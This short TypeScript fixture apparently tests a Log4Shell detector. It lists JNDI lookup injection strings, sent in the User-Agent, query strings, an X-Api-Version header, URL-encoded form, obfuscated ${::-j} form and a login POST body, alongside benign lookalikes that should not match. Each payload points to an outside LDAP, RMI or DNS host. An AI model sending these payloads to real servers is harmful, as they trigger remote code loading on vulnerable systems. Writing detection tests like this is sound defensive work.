import { type Proof, agent, get, post, proof, tcp } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'log4shell',
    [
      agent('${jndi:ldap://198.51.100.7/a}'),
      get('/?x=${jndi:ldap://198.51.100.7/a}'),
      get('/', { headers: { 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' } }),
      get('/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D'),
      agent('${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}'),
      post('/login', 'user=${jndi:dns://198.51.100.7}'),
    ],
    [get('/docs/jndi'), get('/?x=${name}'), tcp(80, 'jndi:ldap')],
  ),
]
